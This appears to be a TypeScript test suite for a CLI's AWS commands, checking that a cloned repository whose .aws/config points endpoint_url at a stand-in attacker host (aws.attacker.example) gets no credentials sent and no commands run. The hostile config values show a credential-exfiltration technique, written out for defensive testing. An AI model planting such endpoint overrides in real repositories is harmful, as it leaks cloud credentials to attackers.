import assert from 'node:assert/strict';
import { chmod, readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { delimiter, join } from 'node:path';
import { openPfInProcess } from '../support/pf-in-process.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const EVIL = 'http://aws.attacker.example';
const KEY = { AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE', AWS_SECRET_ACCESS_KEY: 'x'.repeat(40) };

/** Whatever goes to a host by plain http comes by here. */
async function startProxy() {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.writeHead(403, { 'content-type': 'text/xml' }).end('<x/>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

const HELD = `aws_access_key_id = ${KEY.AWS_ACCESS_KEY_ID}\naws_secret_access_key = ${KEY.AWS_SECRET_ACCESS_KEY}\n`;

async function clone(config: string) {
  const folder = await temporaryFolder({
    'panfactum.yaml': '',
    'environments/production/environment.yaml': 'environment: production\naws_account_id: "123456789012"\n',
    '.aws/config': config,
    '.aws/.gitignore': '*\n',
    '.aws/credentials': `[production-superuser]\n${HELD}[management-superuser]\n${HELD}`,
    'bin/aws': '#!/bin/sh\necho asked >> "$HOME/asked"\n',
    asked: '',
  });
  await chmod(join(folder.path, '.aws/credentials'), 0o600);
  await chmod(join(folder.path, 'bin/aws'), 0o755);
  return folder;
}

const PROFILES =
  '[profile production-superuser]\nregion = us-east-2\n[profile management-superuser]\nregion = us-east-2\n';

async function pf(folder: string, proxy: string, args: readonly string[]) {
  const env = {
    HOME: folder,
    PATH: `${join(folder, 'bin')}${delimiter}${process.env.PATH}`,
    HTTP_PROXY: proxy,
    // Nobody is asked at AWS itself.
    HTTPS_PROXY: 'http://127.0.0.1:1',
    ...KEY,
  };
  await using program = await openPfInProcess();
  return program.run(args, { cwd: folder, env });
}

const COMMANDS: readonly (readonly string[])[] = [
  ['aws', 'verify', 'production', '--json'],
  ['aws', 'verify', 'production', '--via', 'cli', '--json'],
  ['aws', 'org', 'init', '--from-env', '--region', 'us-east-2', '--plan', '--json'],
  ['aws', 'org', 'init', '--from-env', '--region', 'us-east-2', '--yes', '--json', '--timeout', '5s'],
  ['aws', 'account', 'add', 'staging', '--plan', '--json', '--timeout', '5s'],
  ['aws', 'account', 'list', '--json'],
  ['aws', 'profile', 'write', 'staging', '--from-env', '--region', 'us-east-2', '--json'],
  ['aws', 'exec', 'production', '--json', '--', 'aws', 'sts', 'get-caller-identity'],
  ['aws', 'env', 'production', '--json'],
];

describe('a stranger’s clone that names an endpoint', () => {
  for (const [name, config, commands] of [
    ['for every profile', `[default]\nendpoint_url = ${EVIL}\n${PROFILES}`, COMMANDS],
    [
      'for every profile, by services',
      `${PROFILES}[default]\nservices = x\n[services x]\nsts =\n  endpoint_url = ${EVIL}\n`,
      COMMANDS.filter((args) => args.includes('init')),
    ],
    [
      'for the profiles that are asked as',
      PROFILES.replaceAll('us-east-2\n', `us-east-2\nendpoint_url = ${EVIL}\n`),
      COMMANDS.filter((args) => args.includes('verify') || args.includes('list')),
    ],
  ] as const) {
    it(`${name}, gets nothing of any command`, async () => {
      await using folder = await clone(config);
      await using proxy = await startProxy();
      for (const args of commands) {
        const { status, stdout, stderr } = await pf(folder.path, proxy.url, args);
        assert.match(stdout, /ENDPOINT_FOREIGN/, `${args.join(' ')}: ${stdout}${stderr}`);
        assert.equal(status, 7, args.join(' '));
        assert.deepEqual(proxy.seen, [], args.join(' '));
      }
      assert.equal(await readFile(join(folder.path, 'asked'), 'utf8'), '');
    });
  }

  it('gets no line of env for a shell', async () => {
    await using folder = await clone(`${PROFILES}[profile other]\nendpoint_url = ${EVIL}\n`);
    const { status, stdout, stderr } = await pf(folder.path, 'http://127.0.0.1:1', ['aws', 'env']);
    assert.equal(stdout, '');
    assert.equal(status, 7);
    assert.match(stderr, /config, line 6: endpoint_url is "http:\/\/aws\.attacker\.example"/);
  });
});
